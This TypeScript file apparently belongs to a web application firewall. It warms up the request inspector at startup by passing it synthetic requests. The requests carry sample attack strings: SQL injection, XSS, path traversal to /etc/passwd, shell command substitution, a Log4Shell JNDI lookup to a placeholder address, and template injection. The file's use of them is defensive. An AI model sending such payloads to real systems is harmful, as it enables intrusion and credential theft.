// Requests for nothing, right after a worker has started: a rule's patterns and the tables that find its words are made
// when they are first needed, which would be half a second for the first visitor who sends something odd.

import type { InspectedRequest, Inspector } from '@parapet/kinds';

const HEADERS: InspectedRequest['headers'] = [
  ['host', 'www.example.org'],
  ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'],
  ['accept', 'text/html,application/xhtml+xml,*/*;q=0.8'],
  ['accept-language', 'en-GB,en;q=0.9'],
  ['cookie', 'SESS0123456789abcdef=Zm9vYmFy; has_js=1'],
  ['referer', 'https://www.example.org/node/1?page=2'],
];
const FORM = 'application/x-www-form-urlencoded';
const TEXTS: readonly string[] = [
  'plain words',
  "1' union select name, pass from users -- -",
  '<p>Rich <a href="/node/2">text</a></p><script>alert(1)</script>',
  '../../../etc/passwd',
  '$(cat /etc/passwd) ${jndi:ldap://192.0.2.1/a} {{7*7}}',
];
/** Between two of them others are served. */
const PAUSE_MS = 15;

/** Asks the inspector about requests of every kind, one after the other, while the worker serves already. */
export function rehearse(inspector: Inspector): void {
  const requests = TEXTS.flatMap(requestsWith);
  const next = (): void => {
    const request = requests.shift();
    if (request === undefined) return;
    inspector.inspect(request);
    setTimeout(next, PAUSE_MS).unref();
  };
  setTimeout(next, PAUSE_MS).unref();
}

function requestsWith(text: string): readonly InspectedRequest[] {
  const value = encodeURIComponent(text);
  const part = `--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n${text}\r\n--b--\r\n`;
  return [
    requestOf('GET', `/search/node?keys=${value}&page=1`),
    requestOf('POST', '/contact', FORM, `a=${value}&form_id=contact_form`),
    requestOf('POST', '/api', 'application/json', JSON.stringify({ a: [text] })),
    requestOf('POST', '/media/add', 'multipart/form-data; boundary=b', part),
    requestOf('POST', '/soap', 'text/xml', `<a b="1">${value}</a>`),
  ];
}

function requestOf(method: string, rawTarget: string, type = '', body = ''): InspectedRequest {
  const headers = type === '' ? HEADERS : [...HEADERS, ['content-type', type] as const];
  return {
    method,
    rawTarget,
    headers,
    body: body === '' ? undefined : Buffer.from(body),
    isBodyCut: false,
    site: '',
  };
}
